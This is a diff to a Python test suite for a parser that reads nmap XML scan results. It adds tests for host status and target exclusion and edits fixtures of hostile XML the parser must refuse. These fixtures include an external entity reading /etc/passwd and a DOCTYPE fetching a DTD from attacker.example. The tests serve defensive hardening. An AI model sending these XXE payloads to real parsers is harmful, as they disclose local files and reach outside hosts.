@@ -146,6 +146,18 @@ def test_a_scan_that_failed_says_with_what() -> None:
     assert Remark("scan_failed", value="no route") in read(HEAD + HOST + tail)[1]
 
 
+def test_an_address_that_was_only_assumed_to_be_up_is_not_called_up() -> None:
+    assumed = b'<host><status state="up" reason="user-set"/><address addr="10.0.0.%d" addrtype="ipv4"/>%b</host>'
+    silent = b'<ports><extraports state="filtered" count="2"/></ports>'
+    closed = b'<ports><port portid="22"><state state="closed"/></port></ports>'
+    hosts = [
+        one
+        for one in read(HEAD + assumed % (1, silent) + assumed % (2, closed) + TAIL)[1]
+        if isinstance(one, FoundDevice)
+    ]
+    assert [one.is_up for one in hosts] == [False, True]
+
+
 def test_another_version_of_nmap_is_remarked() -> None:
     assert Remark("scan_of_another_version", value="8.01") in read(HEAD.replace(b"7.94", b"8.01") + HOST + TAIL)[1]
 
@@ -157,6 +169,7 @@ def test_another_version_of_nmap_is_remarked() -> None:
         ("nmap 192.168.1.10-20 10.0.0.1", (("192.168.1.10", "192.168.1.20"), ("10.0.0.1", "10.0.0.1"))),
         ("nmap -oX scan.xml router.example", ()),
         ("nmap -iL list.txt", ()),
+        ("nmap --exclude 10.0.0.3 10.0.0.0/24", ()),
         ('nmap "unclosed', ()),
     ],
 )
@@ -174,8 +187,8 @@ BOMB = (
     ("content", "words"),
     [
         (BOMB, "defines entities"),
-        (b'<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY x SYSTEM "file:///etc/passwd">]><nmaprun>&x;</nmaprun>', "defines"),
-        (b'<?xml version="1.0"?><!DOCTYPE nmaprun SYSTEM "http://attacker.example/x.dtd"><nmaprun/>', "asks for other files"),
+        (b'<!DOCTYPE nmaprun [<!ENTITY x SYSTEM "file:///etc/passwd">]><nmaprun>&x;</nmaprun>', "defines"),
+        (b'<!DOCTYPE nmaprun SYSTEM "http://attacker.example/x.dtd"><nmaprun/>', "asks for other files"),
         (b'<?xml version="1.0"?><!DOCTYPE nmaprun [<!ELEMENT x ANY>]><nmaprun scanner="nmap"/>', "defines"),
         (b'<?xml version="1.0"?><!DOCTYPE other><other/>', "defines"),
         (HEAD + b"<a>" * 100_000, "larger or deeper"),
@@ -218,7 +231,7 @@ def test_a_hundred_thousand_hosts_take_no_memory_and_one_more_is_refused() -> No
     list(read_scan(io.BytesIO(HEAD + host * 100 + TAIL)))
     Path("/proc/self/clear_refs").write_text("5", encoding="ascii")  # the peak starts here
     before, count = peak(), 0
-    with pytest.raises(NotANetworkFile, match="more than 100,000 hosts"):
+    with pytest.raises(NotANetworkFile, match="more than 100,000 hosts"):  # noqa: PT012 - those before it are given
         for one in read_scan(Repeated(HEAD, host, Limits.HOSTS + 1, TAIL)):  # type: ignore[arg-type]
             count += isinstance(one, FoundDevice)
     assert Limits.HOSTS - 2_000 < count <= Limits.HOSTS  # those of the last block are never given
